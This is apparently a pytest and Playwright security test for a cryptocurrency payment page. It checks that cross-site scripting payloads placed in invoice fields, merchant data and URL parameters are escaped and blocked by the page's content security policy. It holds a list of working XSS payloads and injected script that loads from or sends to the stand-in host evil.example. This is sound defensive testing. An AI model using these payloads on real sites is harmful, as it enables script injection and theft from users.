"""Threat 41: whatever shops, payers, chains and operators write is text on the page. In a real browser, in every field.

The payloads are of the kinds OWASP's cheat sheet on cross-site scripting lists: elements, attributes, URLs, templates,
what breaks out of a comment, a script, a style or a title, and what turns text around.
"""

from typing import Any

import pytest
from django.db import connection
from playwright.sync_api import Browser
from pytest_django.live_server_helper import LiveServer

from cryptopay.payments.models import Invoice
from monitor.models import Deposit
from tests.database import past_triggers

BTC = "BTC@bitcoin-regtest"
PATIENCE = 120_000
PAYLOADS = [
    "<script>pwned()</script>",
    "</title><script>pwned()</script>",
    "</script><script>pwned()</script>",
    "--><script>pwned()</script>",
    "</style><script>pwned()</script>",
    "</noscript><script>pwned()</script>",
    "</textarea><img src=x onerror=pwned()>",
    '"><img src=x onerror=pwned()>',
    "'><svg/onload=pwned()>",
    '" autofocus onfocus="pwned()" x="',
    "' onmouseover='pwned()' style='position:fixed;inset:0",
    "<svg><animate onbegin=pwned() attributeName=x dur=1s>",
    "<details open ontoggle=pwned()>",
    "<iframe srcdoc='<script>parent.pwned()</script>'>",
    "<meta http-equiv=refresh content='0;url=javascript:pwned()'>",
    "<base href=//evil.example><link rel=stylesheet href=//evil.example>",
    "<form action=//evil.example><button>Pay</button></form>",
    "<a href=javascript:pwned()>Pay</a>",
    "javascript:pwned()",
    "{{7*7}}{% debug %}${7*7}<%= 7*7 %>#{7*7}",
    "\u202eevil\u2066\u202dtext",
    "&lt;script&gt;pwned()&lt;/script&gt;",
    "<math><mtext><table><mglyph><style><img src=x onerror=pwned()>",
    "<template shadowrootmode=open><script>pwned()</script></template>",
    "\\u003cscript\\u003epwned()\\u003c/script\\u003e",
]
ELEMENTS = "iframe, form:not(.choices), base, img, style, math, details, animate, object, [onerror], [onfocus]"
REFUSED = {"script-src-elem", "script-src-attr", "style-src-elem", "img-src", "connect-src", "frame-src"}
LISTEN = "violated = []; addEventListener('securitypolicyviolation', (seen) => violated.push(seen.effectiveDirective))"


def _poisoned(till: Any, text: str) -> Invoice:
    """In every string of it that is not ours, past what would refuse it on its way in."""
    invoice: Invoice = till.open(
        BTC, description=text, order_id=text[:100], return_url=text, customer_ref="c", metadata={text[:40]: text}
    )
    till.pay(invoice, "0.5")
    till.merchant.name, till.merchant.contact = text, f"{text}@evil.example"
    till.merchant.save()
    with past_triggers(), connection.cursor() as sql:
        sql.execute("UPDATE ledger_rate SET source = %s", [text[:40]])
        sql.execute("UPDATE monitor_deposit SET txid = %s", [text[:66]])
    return invoice


@pytest.mark.django_db(transaction=True)
def test_threat_41_nothing_that_anybody_writes_runs(browser: Browser, live_server: LiveServer, till: Any) -> None:
    """With scripts on, so that the policy and the escaping are both tried; each alone would do."""
    context = browser.new_context()
    context.set_default_timeout(PATIENCE)
    page = context.new_page()
    noticed: list[str] = []
    asked: list[str] = []
    page.on("dialog", lambda dialog: (noticed.append(dialog.message), dialog.dismiss()))
    page.on("console", lambda message: noticed.append(message.text))
    page.on("pageerror", lambda error: noticed.append(str(error)))
    page.on("request", lambda request: asked.append(request.url))
    page.expose_function("pwned", lambda: noticed.append("it ran"))
    for text in PAYLOADS:
        invoice = _poisoned(till, text)
        page.goto(f"{live_server.url}/pay/{invoice.public_id}")
        page.goto(f"{live_server.url}/pay/{invoice.public_id}?method={text}&lang={text}&embed={text}&updates={text}")
        shown = page.locator("main").text_content() or ""
        assert text in shown, text
        assert page.locator(ELEMENTS).count() == 0, text
        assert page.locator("#back").count() == 0, "a link to nowhere but the web"
        assert page.locator("a[href^='javascript' i]").count() == 0, text
        assert page.locator("script").count() == 1, text
        page.evaluate("poll()")
        assert Deposit.objects.exists()
    assert noticed == []
    assert all(url.startswith(live_server.url) for url in asked)
    context.close()


@pytest.mark.django_db(transaction=True)
def test_threat_41_the_policy_stops_what_escaping_would_let_through(
    browser: Browser, live_server: LiveServer, till: Any
) -> None:
    """An intruder got elements into the page all the same: none runs, nothing is loaded, and the browser says so."""
    page = browser.new_page()
    page.set_default_timeout(PATIENCE)
    violations: list[str] = []
    page.expose_function("pwned", lambda: violations.append("it ran"))
    page.add_init_script(LISTEN)
    page.goto(f"{live_server.url}/pay/{till.open(BTC).public_id}")
    page.evaluate(
        """() => {
          const add = (name, more) => document.body.append(Object.assign(document.createElement(name), more));
          add("script", { textContent: "pwned()" });
          add("script", { src: "https://evil.example/x.js" });
          add("style", { textContent: "body { display: none }" });
          add("img", { src: "https://evil.example/x.png" });
          add("iframe", { src: "https://evil.example/" });
          document.body.insertAdjacentHTML("beforeend", "<p onclick='pwned()' id='bait'>x</p>");
          document.getElementById("bait").click();
          fetch("https://evil.example/").catch(() => {});
        }"""
    )
    for _ in range(300):
        if set(page.evaluate("violated")) >= REFUSED:
            break
        page.wait_for_timeout(100)
    assert set(page.evaluate("violated")) >= REFUSED
    assert violations == []
    page.close()
